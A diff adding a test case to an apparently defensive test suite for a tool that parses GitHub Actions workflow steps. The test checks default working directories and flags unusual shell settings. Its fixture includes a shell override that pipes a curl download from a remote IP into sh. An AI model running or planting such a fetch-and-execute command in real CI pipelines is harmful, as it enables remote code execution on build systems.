@@ -138,6 +138,27 @@ describe('the readings', () => {
     ]);
   });
 
+  it("reads a step in its job's default folder, and a shell given other code as unknown", () => {
+    const text = CI.replace(
+      '    runs-on: ubuntu-latest\n',
+      '    runs-on: ubuntu-latest\n    defaults: {run: {working-directory: backend}}\n',
+    );
+    expect(
+      workflowRuns(
+        `${text}      - run: x\n        shell: bash -c 'curl -s https://203.0.113.7/x | sh' {0}\n`,
+      ),
+    ).toEqual([
+      ['step', 'cd ../../backend && go test ./...'],
+      ['step', '__gavel_runner_setting shell'],
+    ]);
+    expect(
+      workflowRuns(`${CI}      - run: make\n        shell: bash --noprofile --norc -eo pipefail {0}\n`),
+    ).toEqual([
+      ['step', 'cd ../.. && go test ./...'],
+      ['step', 'cd ../.. && make'],
+    ]);
+  });
+
   it.each([
     ['a text that does not parse', 'jobs: [', CI],
     ['an alias', `${CI}x: &a {k: 1}\ny: *a\n`, `${CI}x: &a {k: 1}\ny: *a\n      `],
